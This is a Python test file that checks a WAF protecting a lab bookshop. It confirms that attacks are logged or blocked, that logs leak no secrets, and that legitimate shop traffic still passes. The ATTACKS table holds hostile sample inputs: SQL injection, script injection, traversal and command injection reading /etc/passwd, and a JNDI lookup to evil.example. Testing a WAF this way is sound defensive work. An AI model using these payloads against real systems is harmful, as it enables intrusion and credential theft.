"""The WAF: attacks are seen or refused, and the shop's whole set of pages and forms is neither."""

from __future__ import annotations

import json
import re
import struct
import zlib

import pytest

from tests.outside import https, play
from tests.visitor import Visitor

CONVERGE = "molecule/edge/converge.yml"
LOG = "/var/log/nginx/waf/audit.log"
ATTACKS = {
    "sql injection": ("GET", "/?q=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20auth_user--", None),
    "script": ("GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None),
    "path": ("GET", "/?file=../../../../etc/passwd", None),
    "command": ("GET", "/?host=127.0.0.1;cat%20/etc/passwd", None),
    "java": ("GET", "/?x=$%7Bjndi:ldap://evil.example/a%7D", None),
    "form": ("POST", "/admin/login/", b"username=admin'%20OR%201=1--&password=x%27%20UNION%20SELECT%201,2"),
    "json": ("POST", "/api/orders/", json.dumps({"email": "<script>alert(1)</script>"}).encode()),
    "scanner": ("GET", "/", None),
}
WRONG_ORDERS = [
    ({"book": 999999}, 404), ({"book": "1"}, 400), ({"book": True}, 400), ({"book": 2**70}, 400),
    ({"quantity": 0}, 400), ({"quantity": 21}, 400), ({"quantity": 1.5}, 400),
    ({"email": "nobody"}, 400), ({"email": None}, 400),
]  # fmt: skip


def attack(lab, name):
    method, path, body = ATTACKS[name]
    headers = {"User-Agent": "sqlmap/1.7"} if name == "scanner" else {}
    if body:
        headers["Content-Type"] = "application/json" if name == "json" else "application/x-www-form-urlencoded"
    return https(lab, path, method=method, body=body, headers=headers)


def is_refused(answer) -> bool:
    """By the edge: what the app itself refuses bears its release."""
    return answer.status == 403 and "x-release" not in answer.headers


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    rows = b"".join(b"\0" + bytes(range(192)) for _ in range(64))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def mode(lab, app1, live_module):
    """Apply the role with the WAF in one mode; at the end without it, and without what it is made of."""

    def apply(wanted: str, **more) -> None:
        done = play(lab, CONVERGE, nginx_waf_mode=wanted, **more)
        assert done.returncode == 0, done.stdout

    yield apply
    assert play(lab, CONVERGE).returncode == 0
    app1.check_output("DEBIAN_FRONTEND=noninteractive apt-get -qq purge libnginx-mod-http-modsecurity modsecurity-crs")
    app1.check_output("nginx -t && systemctl reload nginx")


@pytest.fixture(scope="module")
def live_module(ops, edge, cargo):
    return ops.have_live(edge, cargo["good-1"])


def test_it_says_what_it_would_refuse_and_refuses_nothing(lab, app1, mode):
    mode("detect")
    app1.check_output(f"truncate -s 0 {LOG}")
    for name in ATTACKS:
        assert not is_refused(attack(lab, name)), name
    assert app1.file(LOG).mode == 0o640
    log = app1.check_output(f"cat {LOG}")
    assert log.count("Inbound Anomaly Score Exceeded") == len(ATTACKS)


def test_attacks_are_refused_and_what_is_logged_holds_no_cookie(lab, app1, mode):
    mode("block")
    app1.check_output(f"truncate -s 0 {LOG}")
    assert {name: is_refused(attack(lab, name)) for name in ATTACKS} == dict.fromkeys(ATTACKS, True)
    headers = {"Cookie": "sessionid=s3cretcookie", "Authorization": "Bearer s3crettoken"}
    refused = https(lab, "/?file=../../etc/passwd", headers=headers)
    assert refused.status == 403
    # Whoever was refused can name the request, and the log has it by that name.
    log = app1.check_output(f"cat {LOG}")
    assert refused.headers["x-request-id"] in log
    assert "s3cret" not in log


def test_the_whole_shop_works_as_it_did(lab, app1, mode, keeper):
    app1.check_output(f"truncate -s 0 {LOG}")
    name, password = keeper
    guest, staff = Visitor(lab), Visitor(lab)
    wanted = []

    def expect(answer, status):
        wanted.append((answer.path, status, answer.status))

    for path in ("/", "/?utm_source=news&q=O%27Brien", "/slow?seconds=0", "/robots.txt", "/readyz", "/healthz"):
        expect(guest.ask(path), 200)
    page = guest.ask("/").body.decode()
    for path in re.findall(r'(?:href|src)="(/static/[^"]+)"', page):
        expect(guest.ask(path), 200)
    books = guest.ask("/api/books/").json()["books"]
    for book in books:
        expect(guest.ask(f"/api/books/{book['id']}/"), 200)
    expect(guest.ask("/api/books/999999/"), 404)
    as_json = {"Content-Type": "application/json", "Accept": "application/json"}
    # What the shop's own tests ask it (examples/bookshop/bookshop/tests), the wrong orders among them.
    good = {"book": books[0]["id"], "quantity": 1, "email": "o'brien+news@edge.example"}
    for changes, status in WRONG_ORDERS:
        expect(guest.ask("/api/orders/", "POST", json.dumps({**good, **changes}).encode(), as_json), status)
    expect(guest.ask("/api/orders/", "POST", json.dumps(good).encode(), as_json), 201)
    for body in (b"", b"{", b"[]", b"\xff", b"9" * 20_000):
        expect(guest.ask("/api/orders/", "POST", body, as_json), 400)
    for seconds in ("31", "-1", "nan", "inf", "x"):
        expect(guest.ask(f"/slow?seconds={seconds}"), 400)
    expect(guest.ask("/admin/"), 302)

    expect(staff.submit("/admin/login/?next=/admin/", {"username": name, "password": "wrong"}), 200)
    expect(staff.submit("/admin/login/?next=/admin/", {"username": name, "password": password}), 302)
    for path in ("/admin/", "/admin/bookshop/book/", "/admin/bookshop/book/?q=Shelley&o=-2.1", "/admin/jsi18n/",
                 "/admin/bookshop/order/?created_at__year=2026", "/admin/bookshop/author/?q=d%27Arc+%26+sons",
                 "/admin/autocomplete/?app_label=bookshop&model_name=book&field_name=author&term=M",
                 "/admin/auth/user/", "/admin/password_change/"):  # fmt: skip
        expect(staff.ask(path), 200)
    expect(staff.submit("/admin/bookshop/author/add/", {"name": 'Edge d\'Arc, "Jean" & sons; 1 = 1 or so'}), 302)
    link = re.search(r"/admin/bookshop/author/(\d+)/change/", staff.ask("/admin/bookshop/author/?q=Edge").body.decode())
    assert link
    book = {
        "title": "Edge cases: select, union & drop (a story from <here> to there)",
        "author": link[1], "price": "9.99", "published": "2026", "stock": "3",
    }  # fmt: skip
    added = staff.submit_file("/admin/bookshop/book/add/", book, "cover", "front cover (1).png", png())
    assert added.status == 302
    listed = staff.ask("/admin/bookshop/book/?q=Edge").body.decode()
    number = re.search(r"/admin/bookshop/book/(\d+)/change/", listed)
    assert number
    change = f"/admin/bookshop/book/{number[1]}/change/"
    expect(staff.submit(change, {**book, "title": book["title"] + "!", "price": "10.50"}), 302)
    expect(staff.ask(f"/admin/bookshop/book/{number[1]}/history/"), 200)
    expect(staff.submit(f"/admin/bookshop/book/{number[1]}/delete/", {"post": "yes"}), 302)
    expect(staff.submit(f"/admin/bookshop/author/{link[1]}/delete/", {"post": "yes"}), 302)
    expect(
        staff.submit(
            "/admin/password_change/",
            {"old_password": "no", "new_password1": "' OR 1=1--", "new_password2": "<script>"},
        ),
        200,
    )

    assert [(path, wish, got) for path, wish, got in wanted if wish != got] == []
    seen = [*guest.seen, *staff.seen]
    assert [entry for entry in seen if entry[2] == 403] == []
    assert len(seen) > 50
    assert "Anomaly Score Exceeded" not in app1.check_output(f"cat {LOG}")


def test_an_exclusion_lets_one_argument_of_one_path_be(lab, app1, mode):
    excluded = [
        {"rules": [941100, 941110, 941160], "path": "/robots", "arguments": ["q"], "because": "examples are code there"}
    ]
    mode("block", nginx_waf_exclusions=excluded)
    query = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
    assert https(lab, f"/robots.txt{query}").status == 200
    assert https(lab, f"/robots.txt{query.replace('q=', 'p=')}").status == 403
    assert https(lab, f"/{query}").status == 403
